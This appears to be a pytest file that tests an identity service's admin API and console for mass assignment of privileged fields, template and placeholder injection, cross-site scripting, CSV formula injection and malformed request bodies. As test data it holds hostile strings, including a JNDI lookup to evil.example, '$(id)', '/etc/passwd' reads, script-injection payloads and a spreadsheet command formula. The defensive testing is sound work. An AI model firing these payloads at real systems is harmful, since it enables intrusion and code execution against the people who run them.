"""What is sent to the Admin API and the console's lists: AC-03, AC-15, AC-18, AC-19, and hostile names."""

import json
from typing import Any
from urllib.parse import unquote

import pytest

from tests.attacks.tenants import OWN_PAGE, changed, methods, stored, two_tenants
from tests.attacks.test_pages_headers import faults_of
from tests.console import AdminApi, admin_api, console, sign_in
from vestibule.domain.administration import REALM_ADMIN
from vestibule.web.admin.desk import ApiOperation
from vestibule.web.routing import Route

BASE = "/admin/realms/acme"
FORBIDDEN: dict[str, Any] = {
    "id": "chosen", "realmId": "globex", "realm_id": "globex", "tenant_id": "globex", "containerId": "globex",
    "built_in": True, "builtIn": True, "createdTimestamp": 1, "created_at": 1, "created_by": "mallory",
    "service_of": "chosen", "serviceAccountClientId": "acme-shop", "isPlatformAdmin": True,
    "is_platform_admin": True, "secret_hash": "x", "secrets": [{"digest": "x"}], "digest": "x",
    "encoded": "x", "tokens_valid_from": 0, "notBefore": 0, "version": 99, "registrationAccessToken": "x",
    "origin": "x",
    "access": {"manage": True}, "federationLink": "x", "__class__": "x", "__proto__": {"isAdmin": True},
    "realmRoles": [REALM_ADMIN], "groups": ["/acme-staff"], "clientRoles": {"acme-shop": ["acme-reader"]},
    "path": "/elsewhere", "parentId": "chosen", "clientRole": True, "composite": True,
    "composites": {"realm": [REALM_ADMIN]}, "default_scopes": ["openid"], "kind": "console",
}  # fmt: skip
NEEDED = {
    "name": "made", "clientId": "made", "username": "made", "realm": "made",
    "protocolMapper": "oidc-hardcoded-claim-mapper", "config": {"claim.name": "x", "claim.value": "1"},
    "identityProviderMapper": "oidc-username-idp-mapper", "userId": "made",
}  # fmt: skip


def takers(method: str) -> list[Route]:
    """Addresses of the API that take one object in the body."""
    return [
        route
        for one, route in methods("an administrator", method=method)
        if isinstance(operation := route.methods[one], ApiOperation)
        and operation.takes
        and not operation.takes.startswith("[")
    ]


def rows(tables: dict[str, list[Any]]) -> dict[str, set[str]]:
    return {name: set(values) for name, values in tables.items()}


@pytest.mark.parametrize("route", takers("POST"), ids=lambda route: route.path)
async def test_AC_03_what_is_created_is_only_what_may_be_said_of_it(route: Route) -> None:
    async with two_tenants() as tenants:
        api = await admin_api(tenants.world, role="platform-admin")
        # Of a person an administrator may name roles and groups, with a right of their own (AC-05).
        extra = {name: value for name, value in FORBIDDEN.items() if not (is_person(route) and name in ROLES)}
        before = stored(tenants.world)
        answer = await api.post(tenants.path(route), {**extra, **NEEDED})
        assert answer.status_code in (201, 204, 400, 409), answer.text
        after = stored(tenants.world)
        new = [row for name in before for row in rows(after)[name] - rows(before)[name] if name != "events"]
        assert not [row for row in new if "'chosen'" in row or "mallory" in row or '"built_in":true' in row]
        assert "'chosen'" not in str(after["users"]) + str(after["clients"]) + str(after["roles"])
        foreign = tenants.realms["globex"].id
        assert not [row for row in new if foreign in row]
        assert not after["user_roles"] or set(after["user_roles"]) == set(before["user_roles"])
        assert after["members"] == before["members"]


ROLES = frozenset({"realmRoles", "groups", "clientRoles"})


def is_person(route: Route) -> bool:
    return route.path.endswith("/users")


@pytest.mark.parametrize("route", takers("PUT"), ids=lambda route: route.path)
async def test_AC_03_what_is_changed_keeps_what_is_not_anybodys_to_say(route: Route) -> None:
    async with two_tenants() as tenants:
        api = await admin_api(tenants.world, role="platform-admin")
        before = stored(tenants.world)
        answer = await api.put(tenants.path(route), FORBIDDEN)
        assert answer.status_code in (204, 400, 403, 404, 409), answer.text
        after = stored(tenants.world)
        assert set(changed(before, after)) <= {"events", "deployment_values", "realms"}
        assert "chosen" not in str([after[name] for name in after if name != "events"])


ENDS = ("/new", "{user}", "{role}", "{group}", "{client}", "account")
FORMS = [
    route
    for _, route in methods("an administrator", "the person", method="POST")
    if route.surface == "page" and route.path.endswith(ENDS)
]


@pytest.mark.parametrize("route", FORMS, ids=lambda route: route.path)
async def test_AC_03_a_form_sets_the_fields_that_it_shows_and_no_others(route: Route) -> None:
    async with two_tenants() as tenants:
        browser = await console(tenants.world, role="platform-admin")
        await sign_in(browser, "/realms/acme/account", "acme-alice")
        extra = {
            name: json.dumps(value) if not isinstance(value, str) else value
            for name, value in FORBIDDEN.items()
        }
        extra |= {"attributes.x": "y", "emailVerified": "on", "email_verified": "on", "public": "on"}
        before = stored(tenants.world)
        answer = await browser.http.post(
            tenants.path(route), data={**extra, "name": "made", "client_id": "made"}, headers=OWN_PAGE
        )
        assert answer.status_code < 500
        after = stored(tenants.world)
        assert "'chosen'" not in str([after[name] for name in after if name != "events"])
        assert after["user_roles"] == before["user_roles"]
        assert after["members"] == before["members"]
        realm_id = tenants.realms["acme"].id
        made = [row for row in rows(after)["clients"] - rows(before)["clients"] if realm_id in row]
        assert '"built_in":true' not in str(made)


PLACEHOLDERS = (
    "${ENV}", "${env.VESTIBULE_SECRET_KEY}", "${vault.x}", "file:/etc/passwd", "/etc/passwd", "{{7*7}}",
    "{name.__class__}", "%(password)s", "$(id)", "`id`", "{0}", "{x!r}", "${jndi:ldap://evil.example/x}",
)  # fmt: skip


@pytest.mark.parametrize("text", PLACEHOLDERS)
async def test_AC_19_a_placeholder_is_literal_text_wherever_it_is_stored_and_shown(text: str) -> None:
    async with two_tenants() as tenants:
        api = await admin_api(tenants.world)
        await api.put(BASE, {"displayName": text, "attributes": {"x": text}})
        assert (await api.get(BASE)).json()["displayName"] == text
        ids = await named(api, text)
        user, client = ids["user"], ids["client"]
        assert (await api.get(f"{BASE}/users/{user}")).json()["firstName"] == text
        assert (await api.get(f"{BASE}/clients/{client}")).json()["description"] == text
        browser = await console(tenants.world)
        for path in (f"users/{user}", f"clients/{client}", f"integrations/applications/{client}", "events"):
            page = await browser.http.get(f"/console/acme/{path}")
            assert page.status_code == 200
            assert "root:x:" not in page.text
            assert "<built-in" not in page.text


async def named(api: AdminApi, text: str) -> dict[str, str]:
    """One of each kind in acme whose every text is this one."""
    created = {}
    bodies: dict[str, dict[str, Any]] = {
        "user": {"username": text, "firstName": text, "lastName": text, "attributes": {"x": [text]}},
        "client": {
            "clientId": text, "name": text, "description": text, "redirectUris": ["https://a.example/"],
            "baseUrl": "https://a.example/",
        },
        "group": {"name": text.replace("/", "∕"), "description": text, "attributes": {"x": [text]}},
        "role": {"name": text, "description": text, "attributes": {"x": [text]}},
        "scope": {"name": "hostile", "description": text},
    }  # fmt: skip
    kinds = {
        "user": "users",
        "client": "clients",
        "group": "groups",
        "role": "roles",
        "scope": "client-scopes",
    }
    for kind, body in bodies.items():
        answer = await api.post(f"{BASE}/{kinds[kind]}", body)
        assert answer.status_code == 201, answer.text
        assert answer.headers["location"].isascii()
        last = unquote(answer.headers["location"].rpartition("/")[2])
        if kind == "role":
            assert last == text
            found = (await api.get(f"{BASE}/roles")).json()
            last = next(role["id"] for role in found if role["name"] == text)
        created[kind] = last
    return created


HOSTILE = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "' autofocus onfocus=alert(1) x='",
    "[x](javascript:alert(1))", "{client_secret_page}", "{name}{", "</title><svg onload=alert(1)>",
    "=HYPERLINK(\"https://evil.example\")", "\u202egpj.exe", "javascript:alert(1)", "ab ", "Ünïcode 名前 😀",
    "a?b#c;d&e=f%20g+h", "{{config}}", "__class__", "x" * 255,
)  # fmt: skip


@pytest.mark.parametrize("text", [text.strip() for text in HOSTILE], ids=lambda text: repr(text[:25]))
async def test_TX_01_a_hostile_name_is_a_name_on_every_page(text: str) -> None:
    async with two_tenants() as tenants:
        world = tenants.world
        api = await admin_api(world)
        await api.put(BASE, {"displayName": text})
        tenants.ids["acme"] |= await named(api, text)
        browser = await console(world)
        for method, route in methods("an administrator", "the person", "anyone", method="GET"):
            if route.surface != "page" or "{mapper}" in route.path or "{passkey}" in route.path:
                continue
            answer = await browser.http.request(
                method, tenants.path(route) if "{" in route.path else route.path
            )
            assert answer.status_code < 500, route.path
            assert faults_of(answer) == [], route.path
            if not answer.headers.get("content-type", "").startswith("text/html"):
                continue
            assert "<script>alert" not in answer.text
            assert "<img src=x" not in answer.text
            assert "<svg onload" not in answer.text
            assert "' autofocus onfocus" not in answer.text
            assert 'href="javascript:' not in answer.text


@pytest.mark.parametrize("first", list("=+-@\t\r"))
async def test_TX_01_no_cell_of_an_export_is_a_formula(first: str) -> None:
    async with two_tenants() as tenants:
        world, realm = tenants.world, tenants.realms["acme"]
        from vestibule.domain.event import Event

        evil = f"{first}cmd|' /C calc'!A0"
        await world.storage.add_event(
            Event("evil", world.clock.at, "LOGIN_ERROR", realm_id=realm.id, client_id=evil, actor_name=evil)
        )
        browser = await console(world)
        answer = await browser.http.get("/console/acme/events/export.csv")
        assert answer.headers["content-disposition"] == 'attachment; filename="events-acme-2026-11-20.csv"'
        assert answer.headers["x-content-type-options"] == "nosniff"
        cells = [cell.strip('"') for line in answer.text.splitlines() for cell in line.split(",")]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


BODIES = (
    b'{"name":"x"},"more":1', b'{"name":"x"}}', b'{"name":"x"},"body":{"name":"y"}', b"[", b"null", b"1",
    b'"x"', b"\xff\xfe", b'{"name":NaN}', b'{"a":' * 30 + b"1" + b"}" * 30, b'{"name":"a","name":"b"}',
    b"name=x",
    b'{"name":"a\\u0000b"}', b'{"name":"a\\ud800b"}', b'{"name":"a\\nb"}', b'{"name":{"a":1}}', b'{"name":1}',
    b'{"name":"' + b"x" * 256 + b'"}', b'{"name":" x"}', b'{"name":""}',
    b'{"name":"x","attributes":{"a":"b"}}',
)  # fmt: skip


@pytest.mark.parametrize("body", BODIES, ids=lambda body: repr(body[:30]))
async def test_AC_03_a_body_that_is_not_one_object_of_known_kinds_changes_nothing(body: bytes) -> None:
    async with two_tenants() as tenants:
        api = await admin_api(tenants.world)
        before = stored(tenants.world)
        for path in ("roles", "groups"):
            answer = await api.http.post(
                f"{BASE}/{path}", content=body, headers={"authorization": f"Bearer {api.token}"}
            )
            assert answer.status_code == 400, answer.text
        assert changed(before, stored(tenants.world)) == []


@pytest.mark.parametrize("path", ["roles", "users", "clients", "partial-export"])
async def test_AC_03_a_huge_body_is_refused(path: str) -> None:
    async with two_tenants() as tenants:
        api = await admin_api(tenants.world)
        before = stored(tenants.world)
        answer = await api.post(f"{BASE}/{path}", {"name": "x" * 70000, "clientId": "x", "username": "x"})
        # Over sockets the server refuses it before with 413.
        assert answer.status_code in (200, 400, 413)
        assert set(changed(before, stored(tenants.world))) <= {"events"}
        browser = await console(tenants.world)
        form = {f"field{number}": "x" for number in range(200)}
        answer = await browser.http.post("/console/acme/roles/new", data=form, headers=OWN_PAGE)
        assert answer.status_code == 400
